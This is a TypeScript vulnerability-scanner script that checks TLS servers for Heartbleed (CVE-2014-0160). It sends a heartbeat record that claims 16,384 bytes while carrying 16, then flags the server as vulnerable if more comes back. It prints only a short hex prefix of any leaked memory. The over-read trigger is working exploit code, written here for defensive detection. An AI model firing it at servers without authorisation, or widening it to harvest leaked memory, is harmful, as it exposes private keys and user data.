/**
 * ssl-heartbleed (CVE-2014-0160): after the server's hello, send a TLS heartbeat request whose
 * declared payload length is far larger than the payload actually sent. A patched OpenSSL drops
 * it (RFC 6520 §4: silently discard) or alerts; a vulnerable one answers with that many bytes of
 * its own memory. The reply's size is the evidence; we never print the leaked bytes themselves
 * beyond a short hex prefix.
 *
 * @module
 */
import type { Script, ScriptContext, ScriptOutput } from "../types.ts";
import { sslRule } from "../bundled/rules.ts";
import { clientHello, COMMON_SUITES, negotiate, readRecord, versionName } from "./tls_wire.ts";

/** Payload we send and the length we claim. */
const SENT_PAYLOAD = 16;
const CLAIMED = 0x4000;

/** The heartbeat request record: type 1, claimed length, a short payload, 16 bytes of padding. */
export function heartbeatRequest(version: number): Uint8Array {
  const payload = crypto.getRandomValues(new Uint8Array(SENT_PAYLOAD));
  const body = [1, CLAIMED >> 8, CLAIMED & 0xff, ...payload, ...new Uint8Array(16)];
  return new Uint8Array([
    0x18,
    version >> 8,
    version & 0xff,
    body.length >> 8,
    body.length & 0xff,
    ...body,
  ]);
}

async function tryVersion(ctx: ScriptContext, version: number): Promise<ScriptOutput | undefined> {
  const sock = await ctx.tcp();
  try {
    const outcome = await negotiate(
      sock,
      clientHello(version, COMMON_SUITES, { heartbeat: true }),
      {
        untilDone: true,
        timeoutMs: 4000,
      },
    );
    if (outcome.kind !== "accepted") return undefined;
    const v = outcome.hello.version;
    const advertised = outcome.hello.extensions.has(0x000f);
    const request = heartbeatRequest(v);
    await sock.send(request);
    let received = 0;
    let prefix = new Uint8Array(0);
    let answer = "no heartbeat response";
    const deadline = Date.now() + 3000;
    while (Date.now() < deadline) {
      let rec: Awaited<ReturnType<typeof readRecord>>;
      try {
        rec = await readRecord(sock, deadline - Date.now());
      } catch {
        break;
      }
      if (rec === undefined || "notTls" in rec) {
        answer = rec === undefined ? "connection closed" : answer;
        break;
      }
      if (rec.type === 21) {
        answer = `alert ${rec.body[1]}`;
        break;
      }
      if (rec.type === 24) {
        received += rec.body.length;
        if (prefix.length === 0) prefix = rec.body.slice(3, 19);
        // One response record answers one request (a leaking OpenSSL sends it whole).
        break;
      }
    }
    const sent = request.length - 5;
    const base = {
      version: versionName(v),
      heartbeatExtension: advertised,
      bytesSent: sent,
      bytesReceived: received,
    };
    if (received > sent) {
      const hex = [...prefix].map((b) => b.toString(16).padStart(2, "0")).join("");
      const evidence = `sent a ${sent}-byte heartbeat claiming ${CLAIMED} bytes over ${
        versionName(v)
      }; the server returned ${received} bytes (first leaked bytes: ${hex})`;
      return {
        text: `VULNERABLE: Heartbleed (CVE-2014-0160)\n  ${evidence}`,
        data: base,
        vulnerable: {
          state: "VULNERABLE",
          id: "CVE-2014-0160",
          title: "OpenSSL Heartbleed: heartbeat over-read leaks server memory",
          evidence,
          risk: "critical",
        },
      };
    }
    const evidence = `handshake reached ${versionName(v)}${
      advertised ? " with the heartbeat extension" : " without the heartbeat extension"
    }; an over-long heartbeat got ${received ? `${received} bytes (no more than sent)` : answer}`;
    return {
      text: `NOT VULNERABLE: ${evidence}`,
      data: base,
      vulnerable: {
        state: "NOT VULNERABLE",
        id: "CVE-2014-0160",
        title: "OpenSSL Heartbleed",
        evidence,
      },
    };
  } finally {
    sock.close();
  }
}

/** The `ssl-heartbleed` script. */
export const sslHeartbleed: Script = {
  name: "ssl-heartbleed",
  categories: ["vuln", "safe"],
  description:
    "Sends a TLS heartbeat that claims more payload than it carries (CVE-2014-0160); a reply longer than the request is leaked memory.",
  portRule: sslRule,
  async action(ctx) {
    for (const v of [0x0303, 0x0302, 0x0301]) {
      const r = await tryVersion(ctx, v);
      if (r) return r;
    }
    return undefined;
  },
};
